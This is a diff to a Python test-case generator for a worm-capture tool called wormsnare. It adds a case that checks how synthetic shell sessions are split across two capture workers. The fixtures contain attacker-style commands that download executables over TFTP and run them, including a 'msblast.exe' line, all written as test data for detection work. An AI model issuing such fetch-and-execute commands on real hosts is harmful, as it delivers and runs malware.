@@ -12,6 +12,7 @@ run of wormsnare. Payloads served over TFTP are generated text, never
 malware; their MD5/SHA-256 go to NAME.files.
 """
 import hashlib
+import socket
 import os
 import subprocess
 import sys
@@ -360,6 +361,38 @@ def case_nat():
     s.line("tftp -i 10.1.2.34 GET msblast.exe", [("get", "msblast.exe", "10.1.2.34")])
     s.line("start msblast.exe", [("start", "msblast.exe")])
     s.close()
+    return cap
+
+
+def fanout_member(a, b, n=2):
+    """The worker wormsnare's PACKET_FANOUT program hands a packet between a and b
+    (capture/capture.c: Fibonacci hash of src ^ dst, upper 16 bits, mod n)."""
+    x = int.from_bytes(socket.inet_aton(a), "big") ^ int.from_bytes(socket.inet_aton(b), "big")
+    return (((x * 0x9e3779b1) & 0xffffffff) >> 16) % n
+
+
+def case_workers_split():
+    """Four shells whose address pairs fall to both of two capture workers; the first
+    names a third host for its TFTP transfer, which falls to the other worker than
+    the session: that worker must still name the carved file after the event."""
+    cap = Capture()
+    pairs = [("81.132.114.254", "10.0.0.5"), ("62.30.7.11", "10.0.0.21"),
+             ("200.40.1.9", "10.0.0.22"), ("24.5.66.7", "10.0.0.23")]
+    members = {fanout_member(a, v) for a, v in pairs}
+    assert members == {0, 1}, members
+    a0, v0 = pairs[0]
+    host = next("10.1.2.%d" % i for i in range(34, 250)
+                if fanout_member(v0, "10.1.2.%d" % i) != fanout_member(a0, v0))
+    for k, (a, v) in enumerate(pairs):
+        s = Session(cap, cli=a, cport=1500 + k, srv=v, t=T0 + 0.4 * k)
+        s.handshake()
+        name = "split%d.exe" % k
+        src = host if k == 0 else a
+        s.line("tftp -i %s GET %s" % (src, name), [("get", name, src)])
+        s.t = tftp_download(cap, v, src, name, payload(name, 1500 + 700 * k), s.t + 0.05,
+                            cport=1100 + k, tid=3100 + k)
+        s.line("start %s" % name, [("start", name)])
+        s.close()
     return cap
 
 
@@ -749,6 +782,9 @@ def case_shell_stager():
             output=b"Transfer successful: 512 bytes in 1 second, 512 bytes/s\r\n")
     sh.type("stage2.exe", [("exec", "stage2.exe")])
     sh.close()
+    return cap
+
+
 # ---------------------------------------------- evasions (issue 13), each resolved as
 # the Windows victim resolves it: reassembly/README.md gives every rule and its source
 
@@ -955,6 +991,7 @@ CASES = {
     "encapsulations": case_encapsulations,
     "nat": case_nat,
     "variants": case_variants,
+    "workers-split": case_workers_split,
     "http-noise": case_http_noise,
     "interleaved": case_interleaved,
     "midstream": case_midstream,
